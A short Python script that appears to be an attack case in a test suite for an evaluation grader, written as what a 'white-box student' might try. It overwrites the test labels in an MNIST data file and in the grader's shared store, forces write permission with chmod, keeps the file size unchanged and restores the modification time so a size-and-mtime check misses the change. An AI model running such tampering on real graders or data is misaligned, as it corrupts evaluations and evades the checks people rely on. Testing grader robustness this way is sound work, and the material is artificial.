# Attack: poison the data set for every grading after this one. Rewrite `y_test` in the file the
# kernel was handed and in the grader's shared store (a white-box student knows its path), keeping
# the size, and put the modification time back so that a size-and-mtime check sees nothing.
import io
import os

import numpy as np

from grader.inside import setup

outcome = []
for path in dict.fromkeys([setup._RECORDER[-1].mnist_path, "{{STORE}}"]):
    try:
        st = os.stat(path)
        with np.load(path) as z:
            arrays = {k: z[k] for k in z.files}
        arrays["y_test"] = (arrays["y_test"] + 1) % 10
        poisoned = io.BytesIO()
        np.savez(poisoned, **arrays)
        data = poisoned.getvalue()
        assert len(data) == st.st_size, "sizes differ"
        try:
            fh = open(path, "r+b")
        except PermissionError:
            os.chmod(path, 0o644)
            fh = open(path, "r+b")
        with fh:
            fh.write(data)
        os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
        outcome.append("POISON" + "ED " + path)
    except Exception as exc:  # noqa: BLE001 - every failure is part of the report
        outcome.append(f"{path}: {type(exc).__name__}: {exc}")
raise RuntimeError(" | ".join(outcome))
